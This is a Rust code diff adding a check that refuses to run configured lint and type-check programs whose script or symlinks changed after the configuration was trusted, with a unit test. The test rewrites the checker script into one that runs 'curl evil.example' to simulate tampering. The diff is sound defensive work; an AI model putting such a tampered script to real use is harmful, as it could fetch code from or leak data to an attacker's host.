@@ -13,6 +13,7 @@ mod script;
 use std::collections::BTreeSet;
 use std::path::PathBuf;
 
+use hailer_config::trust::GatedSetting;
 use hailer_marimo::CellSnapshot;
 
 use report::Finding;
@@ -32,11 +33,31 @@ pub(crate) struct Checkers {
     /// The unsafe-local kernel's Python: its folder is searched for the programs, and ty reads
     /// the packages of its environment.
     pub kernel_python: Option<PathBuf>,
+    /// The workspace, which relative program paths are resolved against.
+    pub workspace: PathBuf,
+    /// The trust decisions about `[checks] ruff` and `[checks] ty` (what the program was when
+    /// the configuration was read), when the file set them.
+    pub trusted: Vec<GatedSetting>,
 }
 
 impl Checkers {
     pub(crate) fn any(&self) -> bool {
         self.lint || self.typecheck
+    }
+
+    /// Refuses to start the configured program `name` when it is no longer what the trust
+    /// decision covered: a script edited, or a link on its path retargeted, after the session
+    /// read its configuration.
+    fn still_trusted(&self, name: &str) -> Result<(), String> {
+        let setting = format!("[checks] {name}");
+        match self.trusted.iter().find(|trusted| trusted.name == setting) {
+            Some(trusted) if !trusted.program_unchanged(&self.workspace) => Err(format!(
+                "{name} was not run: the program {setting} names changed (its content or where \
+                 its links lead) since this turn read hailer.toml; the next turn asks for \
+                 `hailer trust` again"
+            )),
+            _ => Ok(()),
+        }
     }
 }
 
@@ -105,6 +126,9 @@ pub(crate) async fn check(
             Ok(program) => program,
             Err(why) => return Some(Err(why)),
         };
+        if let Err(why) = checkers.still_trusted("ruff") {
+            return Some(Err(why));
+        }
         if let Err(error) = std::fs::create_dir_all(&ruff_dir) {
             return Some(Err(format!("ruff has no scratch folder ({error})")));
         }
@@ -123,6 +147,9 @@ pub(crate) async fn check(
             Ok(program) => program,
             Err(why) => return Some(Err(why)),
         };
+        if let Err(why) = checkers.still_trusted("ty") {
+            return Some(Err(why));
+        }
         if let Err(error) = std::fs::create_dir_all(&ty_dir) {
             return Some(Err(format!("ty has no scratch folder ({error})")));
         }
@@ -161,5 +188,49 @@ pub(crate) fn count_cells(count: usize, what: &str) -> String {
         format!("1 {what} cell")
     } else {
         format!("{count} {what} cells")
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used, clippy::expect_used)]
+
+    use super::*;
+
+    #[test]
+    fn a_checker_edited_after_the_configuration_was_read_is_not_run() {
+        let dir = tempfile::tempdir().unwrap();
+        let workspace = dir.path().canonicalize().unwrap();
+        std::fs::write(
+            workspace.join("hailer.toml"),
+            "[checks]\nruff = \"tools/r.sh\"\n",
+        )
+        .unwrap();
+        std::fs::create_dir_all(workspace.join("tools")).unwrap();
+        std::fs::write(workspace.join("tools/r.sh"), "#!/bin/sh\necho '[]'\n").unwrap();
+        let loaded = hailer_config::load(&hailer_config::LoadInputs::new(&workspace)).unwrap();
+        let checkers = Checkers {
+            lint: true,
+            typecheck: false,
+            ruff: Some(workspace.join("tools/r.sh")),
+            ty: None,
+            kernel_python: None,
+            workspace: workspace.clone(),
+            trusted: loaded
+                .trust
+                .setting("[checks] ruff")
+                .cloned()
+                .into_iter()
+                .collect(),
+        };
+        assert_eq!(checkers.still_trusted("ruff"), Ok(()));
+        assert_eq!(checkers.still_trusted("ty"), Ok(()));
+        std::fs::write(
+            workspace.join("tools/r.sh"),
+            "#!/bin/sh\ncurl evil.example\n",
+        )
+        .unwrap();
+        let refused = checkers.still_trusted("ruff").unwrap_err();
+        assert!(refused.starts_with("ruff was not run"), "{refused}");
     }
 }
